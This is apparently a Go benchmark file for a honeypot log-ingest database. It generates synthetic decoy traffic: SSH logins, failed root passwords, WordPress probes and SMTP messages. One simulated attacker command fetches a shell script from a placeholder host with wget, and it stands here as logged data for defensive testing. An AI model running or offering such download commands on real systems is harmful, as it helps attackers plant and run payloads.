package db_test

import (
	"fmt"
	"os"
	"strconv"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/require"

	"github.com/decnet/decnet/db"
	"github.com/decnet/decnet/db/dbtest"
	"github.com/decnet/decnet/internal/ingest"
)

const benchBatch = 2000

// traffic makes lines as decoys write them, 290 bytes on average: connections, logins, requests, commands, mails. They try some
// thousand passwords on twenty deckies, every attacker of 4,000 some lines at a time.
type traffic struct {
	src   []ingest.Source
	n     uint64
	host  string
	burst uint64
}

func newTraffic(burst uint64) *traffic {
	t := &traffic{host: uuid.NewString(), burst: burst}
	for i := range 20 {
		name := fmt.Sprintf("web-%02d", i)
		t.src = append(t.src, ingest.Source{DeckyKey: name, DeckyName: name, DeckyID: uuid.Must(uuid.NewV7())})
	}
	return t
}

func (t *traffic) line() (src ingest.Source, line string) {
	t.n++
	n := t.n
	src = t.src[n/50%uint64(len(t.src))]
	who := n / t.burst * 7919 % 4000
	ip := fmt.Sprintf("198.51.%d.%d", who/200, who%200)
	if who%5 == 0 {
		ip = fmt.Sprintf("2001:db8::%x", who)
	}
	at := time.Unix(1_770_000_000+int64(n/40), int64(n%40)*25_000_000).UTC().Format("2006-01-02T15:04:05.000000+00:00")
	head := func(app, kind string) string {
		return fmt.Sprintf(`<134>1 %s %s %s - %s [relay@55555 boot="5a0e6b1c-1f7e-4a6c-9b3e-1b2f1c2d3e4f" n="%d"`, at, src.DeckyName, app, kind, n)
	}
	switch n % 7 {
	case 0:
		src.Service = "ssh"
		return src, head("ssh", "connect") + fmt.Sprintf(` src_ip="%s" src_port="%d"]`, ip, 1024+n%60000)
	case 1:
		src.Service = "ssh"
		return src, head("ssh", "disconnect") + fmt.Sprintf(` src_ip="%s" src_port="51514" duration_s="12.034"]`, ip)
	case 2:
		src.Service = "ssh"
		return src, head("auth-helper", "auth_attempt") + fmt.Sprintf(` username="root" principal="root" src_ip="%s" src_port="51514" method="password" secret_printable="pw%04d" secret_b64="cHc%04d=" outcome="failure"]`, ip, n/7%3000, n/7%3000)
	case 3:
		src.Service = "http"
		return src, head("http", "request") + fmt.Sprintf(` src_ip="%s" src_port="40112" remote_addr="%s" method="GET" path="/wp-login.php?%d" headers="{\"Host\":\"192.0.2.1\",\"User-Agent\":\"curl/8.5.0\",\"Accept\":\"*/*\"}" protocol="HTTP/1.1" user_agent="curl/8.5.0"]`, ip, ip, n)
	case 4:
		src.Service = "ssh"
		return src, head("ssh", "command") + fmt.Sprintf(` sid="0b8f9c7e-6a5d-4c3b-8a19-%012d" src_ip="%s" command="uname -a; wget http://203.0.113.%d/x%d.sh" uid="0" user="root" pwd="/root"] CMD uid=0 user=root src=%s pwd=/root cmd=uname -a`, n/70, ip, n%250, n, ip)
	case 5:
		src.Service = "smtp"
		return src, head("smtp", "rcpt_to") + fmt.Sprintf(` src="%s" value="<someone%d@example%d.org>"]`, ip, n, n%50)
	}
	src.Service = "smtp"
	return src, head("smtp", "message_stored") + fmt.Sprintf(` src="%s" msg_id="4QxYz1" stored_as="2026-02-03T04:05:06Z_0123456789ab_%d.eml" sha256="e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" size="1204" subject="Invoice %d" attachments_json="[{\"filename\":\"a.zip\"}\]" urls_json="[\"http://example.org/a\"\]"]`, ip, n, n)
}

// batch returns the next n lines with the cursors of their files.
func (t *traffic) batch(tb testing.TB, x *ingest.Extractor, n int) db.IngestBatch {
	tb.Helper()
	b := db.IngestBatch{Extractions: make([]ingest.Extraction, 0, n)}
	from := int64(t.n)
	bytes := 0
	for range n {
		src, line := t.line()
		r, err := ingest.Parse([]byte(line))
		require.NoError(tb, err)
		b.Extractions = append(b.Extractions, x.Extract(src, &r))
		bytes += len(line)
	}
	if n >= 700 {
		require.InDelta(tb, 290, bytes/n, 40)
	}
	b.Cursors = []db.IngestCursor{{HostID: t.host, DeckyID: t.src[0].DeckyID, Service: "ssh", File: firstLine, From: from, To: int64(t.n)}}
	b.Outcomes = []db.IngestOutcome{{DeckyKey: "web-00", Service: "ssh", Outcome: db.OutcomeStored, Lines: int64(n)}}
	return b
}

const firstLine = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

// BenchmarkIngest is storing alone: lines are parsed off the clock. The server of tests does not wait for its disk. Attackers
// stay for 14 lines, or, the worst there is, for one.
func BenchmarkIngest(b *testing.B) {
	for name, burst := range map[string]uint64{"attackers": 14, "strangers": 1} {
		b.Run(name, func(b *testing.B) {
			store := dbtest.Open(b)
			source, x := newTraffic(burst), ingest.NewExtractor(nil)
			for b.Loop() {
				b.StopTimer()
				batch := source.batch(b, x, benchBatch)
				b.StartTimer()
				_, err := store.Ingest(b.Context(), batch)
				require.NoError(b, err)
			}
			b.ReportMetric(float64(b.N)*benchBatch/b.Elapsed().Seconds(), "lines/s")
		})
	}
}

// BenchmarkIngestMillion fills a log of DECNET_BENCH_EVENTS events and tells how fast it went in the end, and how large it is.
func BenchmarkIngestMillion(b *testing.B) {
	events, _ := strconv.Atoi(os.Getenv("DECNET_BENCH_EVENTS"))
	if events == 0 {
		b.Skip("DECNET_BENCH_EVENTS says how many events")
	}
	url := dbtest.URL(b)
	store, err := db.Open(b.Context(), url)
	require.NoError(b, err)
	defer store.Close()
	source, x := newTraffic(14), ingest.NewExtractor(nil)
	for b.Loop() {
		var last, all time.Duration
		for done := 0; done < events; done += benchBatch {
			b.StopTimer()
			batch := source.batch(b, x, benchBatch)
			b.StartTimer()
			begin := time.Now()
			_, err := store.Ingest(b.Context(), batch)
			require.NoError(b, err)
			took := time.Since(begin)
			all += took
			if done >= events-events/10 {
				last += took
			}
		}
		b.ReportMetric(float64(events)/all.Seconds(), "lines/s")
		b.ReportMetric(float64(events/10)/last.Seconds(), "last-lines/s")
	}
	conn, err := pgx.Connect(b.Context(), url)
	require.NoError(b, err)
	defer func() { _ = conn.Close(b.Context()) }()
	for _, relation := range []string{"events", "events_document"} {
		var size int64
		require.NoError(b, conn.QueryRow(b.Context(), "SELECT pg_table_size($1::regclass)", relation).Scan(&size))
		b.ReportMetric(float64(size)/(1<<20), relation+"-MiB")
	}
}
